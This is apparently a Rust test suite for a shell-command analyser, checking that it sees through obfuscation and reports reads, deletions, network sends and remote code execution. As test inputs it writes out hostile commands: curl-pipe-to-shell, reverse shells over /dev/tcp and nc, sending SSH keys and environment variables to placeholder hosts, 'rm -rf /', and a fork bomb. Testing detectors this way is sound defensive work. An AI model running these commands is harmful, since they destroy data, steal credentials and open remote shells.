//! What lines of the shell mean, feature by feature: the tree and its facts, written compactly.

use crate::analysis::{Analysis, Does, Fact, Flow, Step};
use crate::{Limits, Subject, Surroundings, analyse};

pub(super) fn read(line: &str) -> Analysis {
    analyse(Subject::Shell(line), &Surroundings::default(), &Limits::default())
}

/// A step as one line: words, facts in square brackets, inner steps in curly ones.
pub(super) fn render(steps: &[Step]) -> String {
    steps.iter().map(step).collect::<Vec<_>>().join("; ")
}

fn step(step: &Step) -> String {
    let mut text = match &step.does {
        Does::Command { argv } => argv.iter().map(ToString::to_string).collect::<Vec<_>>().join(" "),
        Does::Pipeline => "pipe".to_owned(),
        Does::Group => "group".to_owned(),
        Does::Code { language } => format!("{language:?}").to_lowercase(),
    };
    let facts: Vec<String> = step.facts.iter().map(|act| fact(&act.fact)).collect();
    if !facts.is_empty() {
        text = format!("{text} [{}]", facts.join(", "));
    }
    if !step.inner.is_empty() {
        text = format!("{text} {{ {} }}", render(&step.inner));
    }
    text
}

fn flows(flows: &[Flow]) -> String {
    let names: Vec<String> = flows
        .iter()
        .map(|flow| match flow {
            Flow::File { path } => format!("file {path}"),
            other => format!("{other:?}").to_lowercase(),
        })
        .collect();
    names.join("+")
}

fn fact(fact: &Fact) -> String {
    match fact {
        Fact::Reads { path } => format!("reads {path}"),
        Fact::Writes { path } => format!("writes {path}"),
        Fact::Removes { path, removal } => format!("removes {removal:?} {path}").to_lowercase(),
        Fact::Changes { path, change } => format!("changes {path} {change:?}"),
        Fact::Contacts { place, contact, sends } if sends.is_empty() => format!("{contact:?} {place}").to_lowercase(),
        Fact::Contacts { place, contact, sends } => {
            format!("{} {place} < {}", format!("{contact:?}").to_lowercase(), flows(sends))
        }
        Fact::Executes { from } => format!("executes {}", flows(from)),
        Fact::Imports { module } => format!("imports {module}"),
        Fact::Calls { name } => format!("calls {name}"),
        Fact::Privilege { privilege } => format!("{privilege:?}"),
        Fact::System { act, about } => format!("{act:?} {about}"),
        Fact::ReadsEnvironment { name } => {
            format!("environment {}", name.as_ref().map(ToString::to_string).unwrap_or_default())
        }
        Fact::SetsEnvironment { name, value } => format!("sets {name}={value}"),
        Fact::Tricks { trick } => format!("{trick:?}"),
        Fact::Leads { .. } => fact.to_string(),
        Fact::Unknown { unknown } => format!("? {unknown:?}"),
    }
}

fn check(line: &str, expected: &str) {
    assert_eq!(render(&read(line).steps), expected, "{line}");
}

/// Whether some command of the line is this one, whatever stands around it.
fn runs(line: &str, command: &str) {
    let analysis = read(line);
    let found = analysis
        .commands()
        .any(|(argv, _)| argv.iter().map(ToString::to_string).collect::<Vec<_>>().join(" ") == command);
    assert!(found, "{line}\n  has no `{command}`:\n  {}", render(&analysis.steps));
}

/// Whether some fact of the line reads so.
fn shows(line: &str, expected: &str) {
    let analysis = read(line);
    assert!(
        analysis.facts().any(|act| fact(&act.fact) == expected),
        "{line}\n  has no `{expected}`:\n  {}",
        render(&analysis.steps)
    );
}

#[test]
fn plain_commands_keep_their_words_and_tell_their_files() {
    check("cat /etc/shadow", "cat /etc/shadow [reads /etc/shadow]");
    check("rm -rf build dist", "rm -rf build dist [removes tree build, removes tree dist]");
    check("rm --recurs x", "rm --recurs x [removes tree x]");
    check("cp a b; mv c d", "cp a b [reads a, writes b]; mv c d [removes one c, writes d]");
    check("echo hi > out.txt", "echo hi [writes out.txt]");
    check("ls 2>/dev/null", "ls");
    check("unknown-tool --flag x", "unknown-tool --flag x");
}

#[test]
fn quoting_tricks_fold_to_the_plain_word_and_are_told() {
    for line in
        ["c''at /etc/shadow", "c\\at /etc/shadow", "$'\\x63at' /etc/shadow", "ca\"t\" /etc/shadow", "'c'at /etc/shadow"]
    {
        check(line, "cat /etc/shadow [Obscured, reads /etc/shadow]");
    }
    check("cat${IFS}/etc/shadow", "cat /etc/shadow [Obscured, reads /etc/shadow]");
    check("{cat,/etc/shadow}", "cat /etc/shadow [reads /etc/shadow]");
    check("cat /etc/sha'd'ow", "cat /etc/shadow [Obscured, reads /etc/shadow]");
    check("ca$@t /etc/shadow", "cat /etc/shadow [Obscured, reads /etc/shadow]");
}

#[test]
fn ordinary_quoting_is_no_disguise() {
    check("echo 'a b' \"c\" --x=\"y\" -I\"include\"", "echo a b c --x=y -Iinclude");
    check("grep -r 'foo\\.bar' \"src dir\"", "grep -r foo\\.bar src dir [reads src dir]");
    check("git commit -m 'it'\\''s done'", "git commit -m it's done");
}

#[test]
fn variables_of_the_line_are_put_in() {
    check("x=cat; $x /etc/passwd", "cat /etc/passwd [reads /etc/passwd]");
    check("a=c; b=at; $a$b f", "cat f [reads f]");
    check("x='rm -rf'; $x /", "rm -rf / [removes tree /]");
    check("for f in a b; do rm $f; done", "group { rm a [removes one a]; rm b [removes one b] }");
    check("echo ${x:-d} ${HOME} ~/y", "echo d /home/user /home/user/y");
    check("x=abcdef; echo ${x:1:2} ${x#ab} ${x%f} ${x/cd/X}", "echo bc cdef abcde abXef [Obscured, Obscured]");
    check("arr=(rm -rf); ${arr[@]} /x", "rm -rf /x [removes tree /x]");
    check("$CMD x", "$CMD x [? Program] { x }");
}

#[test]
fn literal_output_becomes_part_of_the_command() {
    runs("$(echo cat) /etc/shadow", "cat /etc/shadow");
    runs("$(printf '\\x63\\x61\\x74') /etc/shadow", "cat /etc/shadow");
    runs("$(echo Y2F0 | base64 -d) /etc/shadow", "cat /etc/shadow");
    runs("echo 'tac' | rev | xargs -I{} {} /etc/shadow", "cat /etc/shadow");
    runs("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "cat /etc/shadow");
    runs("echo 636174202f6574632f736861646f77 | xxd -r -p | bash", "cat /etc/shadow");
    runs("bash <<< \"$(echo 'png /rgp/funqbj' | tr a-z n-za-m)\"", "cat /etc/shadow");
}

#[test]
fn wrappers_are_looked_through() {
    for line in [
        "env cat f",
        "env -i A=1 cat f",
        "env -S 'cat f'",
        "sudo -u root cat f",
        "su -c 'cat f'",
        "nohup cat f",
        "timeout -k 1 5 cat f",
        "nice -n 5 cat f",
        "nice -5 cat f",
        "dotenv -- cat f",
        "dotenv run cat f",
        "aws-vault exec p -- cat f",
        "direnv exec . cat f",
        "perf record -g -- cat f",
        "start-stop-daemon --exec /bin/cat -- f",
        "entr -s 'cat f'",
        "tini -- cat f",
        "dumb-init cat f",
        "faketime '1 day ago' cat f",
        "chpst -u me cat f",
        "s6-setuidgid me cat f",
        "doppler run -- cat f",
        "concurrently 'cat f' 'ls'",
        "cmake -E cat f",
        "sed 's/\\/x/cat f/e' g",
        "setsid cat f",
        "stdbuf -oL cat f",
        "time cat f",
        "command cat f",
        "exec cat f",
        "sh -c 'cat f'",
        "bash -ec 'cat f'",
        "bash -lc \"cat f\"",
        "busybox cat f",
        "find . -exec cat f \\;",
        "xargs cat f </dev/null",
        "git -c core.sshCommand='cat f' fetch",
        "git -c alias.x='!cat f' x",
        "ssh host cat f",
        "ssh -o ProxyCommand='cat f' host",
        "rsync -e 'cat f' a b",
        "tar --to-command='cat f' -xf x",
        "man -P 'cat f' ls",
        "vim -c '!cat f'",
        "script -c 'cat f' /dev/null",
        "watch cat f",
        "flock /tmp/l cat f",
        "chroot / cat f",
        "unshare -r cat f",
        "nsenter -t 1 -m cat f",
        "docker run --rm img cat f",
        "kubectl exec pod -- cat f",
        "parallel cat ::: f",
        "awk 'BEGIN{system(\"cat f\")}'",
        "eval 'cat f'",
        "trap 'cat f' EXIT",
        "systemd-run cat f",
        "PAGER='cat f' git log",
        "/lib64/ld-linux-x86-64.so.2 /bin/cat f",
        "git clone 'ext::cat f'",
        "tar cf x --checkpoint-action=exec='cat f' y",
    ] {
        let analysis = read(line);
        let found = analysis.commands().any(|(argv, _)| {
            let words: Vec<String> = argv.iter().map(ToString::to_string).collect();
            words == ["cat", "f"] || words == ["/bin/cat", "f"]
        });
        assert!(found, "{line}: {}", render(&analysis.steps));
    }
}

#[test]
fn what_flows_into_a_shell_is_followed() {
    shows("curl -s https://x.example/i.sh | base64 -d | sh", "executes network+decoded");
    shows("curl https://x.example/i.sh | bash", "executes network");
    shows("bash <(curl -s https://x.example)", "executes network");
    shows("curl -o x.sh https://x.example; sh x.sh", "executes network");
    shows("wget https://x.example/x.sh && chmod +x x.sh && ./x.sh", "executes network");
    shows("eval \"$(curl https://x.example)\"", "executes network");
    shows("curl https://x.example | tee f | sh", "executes network");
    shows("bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "connect 1.2.3.4:443");
    shows("bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "executes network");
    runs("echo 'rm -rf /' > f; bash f", "rm -rf /");
    runs("bash <<EOF\nrm -rf /\nEOF", "rm -rf /");
    runs("cat <<'EOF' | sh\nrm -rf /\nEOF", "rm -rf /");
    runs("f() { rm -rf \"$1\"; }; f /", "rm -rf /");
    runs("alias ls='rm -rf /'; ls", "rm -rf /");
}

#[test]
fn what_is_sent_away_is_followed() {
    shows("cat ~/.ssh/id_rsa | curl -d @- https://x.example", "send https://x.example < file /home/user/.ssh/id_rsa");
    shows("curl -d \"$(env)\" https://x.example", "send https://x.example < environment");
    shows("curl -d \"$(cat /etc/passwd)\" https://x.example", "send https://x.example < file /etc/passwd");
    shows("nslookup $(cat f).evil.test", "probe $(…).evil.test < file f");
    shows("x=$(cat f); curl https://x.example/?q=$x", "send https://x.example/?q=$(…) < file f");
    shows("curl -F 'a=@/etc/passwd' https://x.example", "send https://x.example < file /etc/passwd");
    shows("tar cz ~/.ssh | nc 1.2.3.4 99", "connect 1.2.3.4:99 < file /home/user/.ssh");
}

#[test]
fn a_pipe_with_a_name_closes_the_circle_of_a_reverse_shell() {
    shows("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 > /tmp/f", "executes network");
    shows("mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc 1.2.3.4 99 > /tmp/f", "executes network");
}

#[test]
fn another_separator_cuts_other_words() {
    check("IFS=,;x=rm,-rf,/;$x", "group [sets IFS=,]; rm -rf / [removes tree /]");
}

#[test]
fn a_function_that_starts_itself_fills_the_machine() {
    shows(":(){ :|:& };:", "Exhaustion :");
}

#[test]
fn what_cannot_be_read_is_unknown_as_a_whole() {
    for line in ["echo 'open", "if true; then", "$(", "echo ${x", "99999999999>x", "a\0b"] {
        let analysis = read(line);
        let unknown = analysis.facts().any(|act| matches!(act.fact, Fact::Unknown { .. }));
        assert!(unknown, "{line}: {}", render(&analysis.steps));
    }
}

#[test]
fn a_commit_message_from_a_here_document_is_daily_work() {
    check(
        "git commit -m \"$(cat <<'EOF'\nit's (a) message\nEOF\n)\"",
        "git commit -m it's (a) message { group { cat } }",
    );
}

#[test]
fn continued_lines_are_one_line() {
    check("ls \\\n-la", "ls -la");
    check("cat \\\n  a \\\n\tb\\\nc && \\\ncat \\\n d \\\n", "cat a bc [reads a, reads bc]; cat d [reads d]");
    check("r\\\nm -rf \\\n  /", "rm -rf / [removes tree /]");
    check("X\\\n=/; rm -rf $\\\nX \"/e\\\ntc\"", "rm -rf / /etc [removes tree /, removes tree /etc]");
    check("cat > \\\n  out <<E\nx\\\ny\nE", "cat [writes out]");
    check("for d in a \\\n  b; do \\\n rm $d; done", "group { rm a [removes one a]; rm b [removes one b] }");
    runs("X=/ \\\n; ls | \\\n xargs -I{} rm -rf $X", "rm -rf /");
    runs("echo \"$(rm \\\n -rf / a\\\n#)\"", "rm -rf / a#");
    runs("# nothing \\\nrm -rf /", "rm -rf /");
    check("echo 'a\\\nb'", "echo a\\\nb");
}

#[test]
fn a_here_document_before_a_pipe_leaves_the_next_command_its_words() {
    check("cat <<'A' | wc -l f\nx\nA", "pipe { cat; wc -l f [reads f] }");
    check("for x in; do :; done", "group { : }");
}

#[test]
fn a_shell_finds_its_code_behind_options_with_values() {
    for line in [
        "bash -o pipefail -c 'rm -rf /'",
        "bash -euo pipefail -c 'rm -rf /'",
        "bash -O extglob -c 'rm -rf /'",
        "sh -o errexit -c 'rm -rf /'",
        "bash --rcfile x -c 'rm -rf /'",
        "bash --init-file x -c 'rm -rf /'",
        "bash -c -e 'rm -rf /'",
        "bash $FLAGS -c 'rm -rf /'",
        "fish --command='rm -rf /'",
        "bash -c 'rm -rf $0' /",
        "bash -c 'rm -rf \"$1\"' _ /",
        "echo / | xargs sh -c 'rm -rf \"$0\"'",
    ] {
        runs(line, "rm -rf /");
    }
    check("bash -euo pipefail -c 'ls -la'", "bash -euo pipefail -c ls -la { ls -la }");
    shows("bash -euo pipefail script.sh -c x", "executes file script.sh");
}

#[test]
fn a_child_changes_nothing_in_its_parent() {
    runs("X=/; bash -c 'X=build'; rm -rf $X", "rm -rf /");
    shows("cd /; bash -c 'cd /workspace/build'; rm -rf etc", "removes tree /etc");
    runs("X=/; echo a | xargs -I{} sh -c 'X={}'; rm -rf $X", "rm -rf /");
    runs("X=/; env X=build sh -c 'X=b'; command eval 'Y=$X'; rm -rf $Y", "rm -rf /");
    // A child has only what is exported.
    runs("X=build; bash -c 'rm -rf $X/'", "rm -rf $X/");
    runs("X=build; bash -c \"rm -rf $X/\"", "rm -rf build/");
}

#[test]
fn a_file_is_the_same_under_every_spelling() {
    for line in [
        "curl -s https://x.example > ./i.sh; sh i.sh",
        "curl -s https://x.example > i.sh; sh $PWD/i.sh",
        "curl -s https://x.example > i.sh; sh ./././i.sh",
        "curl -s https://x.example > d/i.sh; cd d; sh i.sh",
        "curl -s https://x.example > /tmp/i.sh; cd /tmp; sh i.sh",
        "curl -s https://x.example > /tmp/i.sh; cd /tmp; . ./i.sh",
        "curl -s https://x.example > i.sh; cd $D; sh i.sh",
        "sh /dev/fd/3 3< <(curl -s https://x.example)",
    ] {
        shows(line, "executes network");
    }
    shows("curl -s https://x.example > d/i.sh; sh i.sh", "executes file i.sh");
}

#[test]
fn nothing_is_cut_off_silently() {
    let words = "a ".repeat(100);
    shows(&format!("echo {words} / | xargs rm -rf"), "removes tree /");
    shows(&format!("printf '%s\\n' {words} / | xargs -I{{}} rm -rf {{}}"), "removes tree /");
    shows(&format!("parallel rm -rf ::: {words} /"), "removes tree /");
    shows("rm -rf {1..1000}", "removes tree …");
    shows("rm -rf /{e..e..1}tc", "removes tree …");
    shows("rm -rf {a..c} {1..2}{x,y}", "removes tree 2y");
    shows("echo \"'/'\" | xargs rm -rf", "removes tree $(…)");
    shows("echo '\\/' | xargs rm -rf", "removes tree $(…)");
    shows("printf 'a:/' | xargs -d: rm -rf", "removes tree /");
    shows("printf 'build\\0/' | xargs -0 rm -rf", "removes tree /");
    shows("echo 'a b' | xargs -I{} rm -rf {}", "removes tree a b");
}

#[test]
fn the_folder_is_followed_or_not_known() {
    shows("cd /; rm -rf ~+/etc", "removes tree //etc");
    shows("HOME=/etc; echo x > ~/passwd", "writes /etc/passwd");
    shows("cd /; pushd /tmp/b; popd; rm -rf etc", "removes tree …/etc");
    shows("env -C / rm -rf etc", "removes tree /etc");
    shows("env --chdir=/etc tee passwd; rm -rf b", "writes /etc/passwd");
    shows("env --chdir=/etc tee passwd; rm -rf b", "removes tree b");
    shows("CDPATH=/; cd etc; rm -rf x", "removes tree …/x");
    shows("git -C / clean -fdx", "removes tree /");
    shows("cd /; git clean -fdx", "removes tree /");
    shows("git clean -fdx", "removes tree untracked files");
    shows("cd build; rm -rf x", "removes tree build/x");
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    /// Pieces that shells find hard, in any order.
    fn line() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            Just("echo"),
            Just("cat"),
            Just("rm -rf"),
            Just(" "),
            Just(" "),
            Just(";"),
            Just("|"),
            Just("&&"),
            Just("("),
            Just(")"),
            Just("{ "),
            Just("; }"),
            Just("$("),
            Just("`"),
            Just("\""),
            Just("'"),
            Just("\\"),
            Just("$'\\x63'"),
            Just("${x:-"),
            Just("}"),
            Just("${x#"),
            Just("${x/a/"),
            Just("${x:1:2}"),
            Just("$x"),
            Just("x=a "),
            Just("<<E\n"),
            Just("E\n"),
            Just("\n"),
            Just("<("),
            Just("> f"),
            Just("2>&1"),
            Just("<<<"),
            Just("if "),
            Just("then "),
            Just("fi"),
            Just("for i in "),
            Just("do "),
            Just("done"),
            Just("case x in "),
            Just("esac"),
            Just("a) "),
            Just(";;"),
            Just("[["),
            Just("]]"),
            Just("$((1+"),
            Just("))"),
            Just("{a,"),
            Just("}"),
            Just("*"),
            Just("é"),
            Just("~"),
            Just("#"),
            Just("eval "),
            Just("sh -c "),
            Just("xargs "),
            Just("base64 -d"),
            Just("printf %s%b "),
            Just("\u{1F600}"),
            Just("a=(b c)"),
            Just("alias l="),
            Just("f() "),
            Just("trap "),
            Just("find . -exec "),
            Just("\\;"),
            Just("curl -d @"),
            Just("awk "),
            Just("sed s/a/b/e"),
            Just("env -S"),
            Just("!"),
            Just("time "),
            Just("$@"),
            Just("/dev/tcp/h/1"),
        ];
        prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
    }

    fn within(line: &str) {
        let limits = Limits { steps: 300, facts: 1000, ..Limits::default() };
        let analysis = analyse(Subject::Shell(line), &Surroundings::default(), &limits);
        for step in analysis.all_steps() {
            assert!(step.span.start <= step.span.end && step.span.end <= line.len(), "{:?} in {line:?}", step);
            for act in &step.facts {
                assert!(act.span.start <= act.span.end && act.span.end <= line.len(), "{act:?} in {line:?}");
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn any_pieces_of_shell_are_read_and_every_place_lies_within_the_line(line in line()) {
            within(&line);
        }

        #[test]
        fn any_text_is_read_and_every_place_lies_within_it(line in "\\PC{0,60}") {
            within(&line);
        }
    }
}

#[test]
fn values_and_walks_that_grow_without_end_are_bounded() {
    let doubled = format!("X=a; {}rm -rf /$X", "X=$X$X; ".repeat(40));
    let joined = format!("X=aaaaaaaa; {}rm -rf /$X", "X+=$X; ".repeat(40));
    let long = format!("X={}; rm -rf /{}", "a".repeat(60_000), "$X".repeat(60_000));
    let fields = format!("A=(/); {}rm -rf \"${{A[@]}}\"", "A+=(\"${A[@]}\"); ".repeat(40));
    let functions: String = (1..60).map(|number| format!("f{number}() {{ f{0}; f{0}; }}; ", number + 1)).collect();
    let functions = format!("{functions}f60() {{ X=1; }}; f1");
    let turns = format!("{}rm -rf /$a; {}", "for a in 1 2 3 4 5 6 7 8; do ".repeat(9), "done; ".repeat(9));
    for line in [&doubled, &joined, &long, &fields, &functions, &turns] {
        let start = std::time::Instant::now();
        let analysis = read(line);
        let unknown = analysis.facts().any(|act| match &act.fact {
            Fact::Unknown { .. } => true,
            Fact::Removes { path, .. } => path.has_hole(),
            _ => false,
        });
        assert!(unknown, "{}", line.chars().take(100).collect::<String>());
        // Without bounds it would not end at all.
        assert!(start.elapsed().as_secs() < 30, "{}: {:?}", line.chars().take(60).collect::<String>(), start.elapsed());
    }
    runs("X=a; X=$X$X; X=$X$X; rm -rf /$X", "rm -rf /aaaa");
    runs("f() { g; g; }; g() { rm -rf /; }; f", "rm -rf /");
}

#[test]
fn r14_hostile_nesting_is_refused_before_a_parser_sees_it() {
    for unit in [
        "(",
        "( ",
        "$(",
        "{ ",
        "\"$(",
        "[[ ( ",
        "case x in a) ",
        "`",
        "if ",
        "${x:-",
        "<(",
        "{",
        "{a,",
        "! ",
        "time ",
        "a;",
        "a&&",
        "a|",
        "a[",
        "@(",
        "coproc ",
        "{1..9}",
        "a[\"$(",
        "{ a; ",
    ] {
        let text = unit.repeat(200_000 / unit.len());
        let start = std::time::Instant::now();
        let analysis = read(&text);
        assert!(analysis.facts().any(|act| matches!(act.fact, Fact::Unknown { .. })), "{unit}");
        assert!(start.elapsed().as_secs() < 5, "{unit}");
    }
}
